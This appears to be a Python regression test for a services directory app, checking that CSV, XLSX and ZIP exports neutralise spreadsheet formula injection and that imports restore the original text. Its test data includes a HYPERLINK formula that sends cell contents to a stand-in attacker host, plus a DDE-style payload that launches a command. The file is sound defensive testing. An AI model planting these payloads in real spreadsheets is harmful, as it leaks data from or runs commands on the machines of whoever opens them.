"""Exports do not attack their readers (issue 13, finding 3), and imports give back the text.

A service named `=HYPERLINK(...)` came out raw in services.csv and the services.zip tables,
and as a live formula in services.xlsx: opened, it sends the sheet's cells to its author.
"""

from __future__ import annotations

import csv
import io
import zipfile

from openpyxl import load_workbook

from admin_api.accounts.models import Role
from services_directory.exchange.cells import neutralise, restore
from tests.helpers.api import Api, service_body

LEAK = '=HYPERLINK("http://evil.example/?leak="&B2&C2,"Open record")'
MEDIA = {
    "csv": "text/csv",
    "xlsx": "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet",
    "zip": "application/zip",
}


def test_neutralised_cells_come_back_exactly() -> None:
    for text in ("", "plain", LEAK, "+212 5", "-9.14", "@SUM(A1)", "\tx", "\rx", "'=x", "''+x",
                 "'quoted", "it's"):  # fmt: skip
        cell = neutralise(text)
        assert cell[:1] not in ("=", "+", "-", "@", "\t", "\r")
        assert restore(cell) == text


def _csv_names(content: bytes) -> list[str]:
    return [row["name"] for row in csv.DictReader(io.StringIO(content.decode("utf-8-sig")))]


async def test_exports_hold_no_formulas_and_import_back_unchanged(api: Api) -> None:
    association = await api.account(Role.ASSOCIATION, await api.organization())
    body = service_body(LEAK)
    body["description"] = "@SUM(1+1)*cmd|' /C calc'!A0"
    created = await api.client.post("/api/v1/services", json=body, headers=association)
    assert created.status_code == 201, created.text
    exports = {
        fmt: (await api.client.get(f"/api/v1/exports/services.{fmt}", headers=association)).content
        for fmt in MEDIA
    }
    assert _csv_names(exports["csv"]) == ["'" + LEAK]
    sheet = load_workbook(io.BytesIO(exports["xlsx"])).worksheets[0]
    header = [cell.value for cell in sheet[1]]
    name = sheet.cell(row=2, column=header.index("name") + 1)
    assert (name.value, name.data_type, name.quotePrefix) == (LEAK, "s", True)
    with zipfile.ZipFile(io.BytesIO(exports["zip"])) as archive:
        table = archive.read("service.csv")
    assert _csv_names(table) == ["'" + LEAK]
    assert b"'@SUM" in table
    for fmt, content in exports.items():
        again = await api.client.post(
            "/api/v1/imports/services", content=content,
            headers={**association, "Content-Type": MEDIA[fmt]},
        )  # fmt: skip
        assert again.status_code == 200, (fmt, again.text[:500])
        assert again.json()["unchanged"] == 1, fmt
